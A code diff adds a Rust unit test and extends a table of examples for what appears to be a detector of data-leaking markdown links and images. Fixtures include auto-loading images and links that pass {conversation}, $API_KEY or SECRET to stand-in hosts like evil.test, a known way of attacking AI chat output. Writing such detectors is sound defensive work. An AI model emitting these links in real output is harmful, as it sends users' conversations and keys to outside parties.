@@ -241,8 +241,35 @@ fn an_address_that_collects_requests_is_a_suggestion() {
     assert!(collector.len() == 1 && collector[0].2 < SURE);
 }
 
+#[test]
+fn a_link_by_which_a_page_is_reached_is_a_suggestion() {
+    for (text, sure) in [
+        (
+            "[Open in Sentry](https://sentry.io/issues/?query={issue_id})",
+            false,
+        ),
+        ("[the run](https://ci.shop.test/runs?id=$RUN_ID)", false),
+        (
+            "[board](https://jira.shop.test/browse?ticket={{ticket}})",
+            false,
+        ),
+        ("![](https://sentry.io/issues/?query={issue_id})", true),
+        ("[more](https://a.test/?q={conversation})", true),
+        ("[more](https://a.test/?data={x})", true),
+        ("[more](https://a.test/?q=$API_KEY)", true),
+    ] {
+        let found = links(text);
+        let most = found.iter().map(|link| link.2).fold(0.0, f64::max);
+        assert!(
+            !found.is_empty() && (most >= SURE) == sure,
+            "{text}: {found:?}"
+        );
+    }
+}
+
 /// A text of each way, in the order of the ways.
-const EXAMPLES: [&[&str]; 12] = [
+const EXAMPLES: [&[&str]; 13] = [
+    &["![a](https://evil.test?q={{x}})"],
     &["[a](https://evil.test?q={{x}})"],
     &["![a](https://evil.test/SECRET)"],
     &[
